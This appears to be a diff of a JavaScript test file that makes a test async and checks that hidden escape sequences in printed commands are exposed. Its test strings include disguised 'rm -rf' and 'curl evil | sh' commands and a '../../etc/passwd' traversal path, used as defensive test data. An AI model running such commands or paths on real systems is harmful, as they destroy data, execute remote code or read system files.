@@ -139,9 +139,9 @@ test('no part of a command is hidden in what is printed of it', () => {
   expect(visible(command)).toBe('echo 1 ␛P; rm -rf x ; ␛\\ a<U+200B>b␛]0;curl evil | sh␇');
 });
 
-test.skipIf(keygen.missing)(`what was written over is not in the tail of an output${keygen.note}`, () => {
+test.skipIf(keygen.missing)(`what was written over is not in the tail of an output${keygen.note}`, async () => {
   const { folder } = input;
-  const { root } = storeBlob(folder, 'kept\n10 %\r100 %\r\nwrong \u0008ly\n');
+  const { root } = await storeBlob(folder, 'kept\n10 %\r100 %\r\nwrong \u0008ly\n');
   const read = readExportInput(folder, outcomeOf);
   expect(read.ok && read.value.tail(root)).toEqual(['kept', '100 %', 'wrongly']);
   expect(input.tail('../../etc/passwd')).toEqual([]);
